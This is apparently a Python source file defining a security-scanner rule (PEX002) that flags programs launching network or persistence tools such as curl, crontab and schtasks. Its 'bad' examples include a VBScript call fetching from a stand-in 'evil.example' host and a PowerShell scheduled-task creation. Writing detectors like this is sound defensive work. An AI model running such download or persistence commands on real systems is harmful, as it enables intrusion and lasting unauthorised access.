"""PEX002: a program runs network or persistence tooling."""

from __future__ import annotations

from collections.abc import Iterator

from gk_hooks.model.effects import Execute
from gk_hooks.model.findings import Category, Confidence, Example, Finding, Rule, Severity
from gk_hooks.rules.commands import command_line, shown, trail_of, uses_tooling

RULE = Rule(
    id="PEX002",
    title="Starts network or persistence tooling",
    category=Category.PROCESS_EXEC,
    severity=Severity.BLOCKER,
    confidence=Confidence.HIGH,
    why="Tools such as curl, ssh or schtasks do from outside what this scan would flag inside the program.",
    fix="Remove the call; if the tool is needed, run it outside the program, under change control.",
    cwe=("CWE-78", "CWE-912"),
    nist=("CM-7", "SC-7"),
    attack=("T1105", "T1059"),
    bad=(
        Example('import subprocess\nsubprocess.run(["curl", "-O", address])'),
        Example('import subprocess\nsubprocess.run("crontab jobs.txt".split())'),
        Example('CreateObject("WScript.Shell").Run "curl.exe https://evil.example/x"', "example.vbs"),
        Example('Start-Process schtasks -ArgumentList "/create /tn agent /tr agent.exe"', "example.ps1"),
    ),
    good=(
        Example('import subprocess\nsubprocess.run(["git", "status"])\nsubprocess.run(["crontab", "-l"])'),
        Example('WScript.Echo "curl.exe https://evil.example/x"', "example.vbs"),
        Example('Start-Process schtasks -ArgumentList "/query"', "example.ps1"),
    ),
)


@RULE.on(Execute)
def check(effect: Execute) -> Iterator[Finding]:
    """A script's own ``curl`` is NET001 or NET002, not a process that a program starts."""
    if uses_tooling(effect):
        tools = ", ".join(effect.tools)
        yield RULE.finding(
            effect,
            f"{effect.site.callee} starts {tools}: {shown(effect)}",
            command=command_line(effect),
            trail=trail_of(effect),
        )
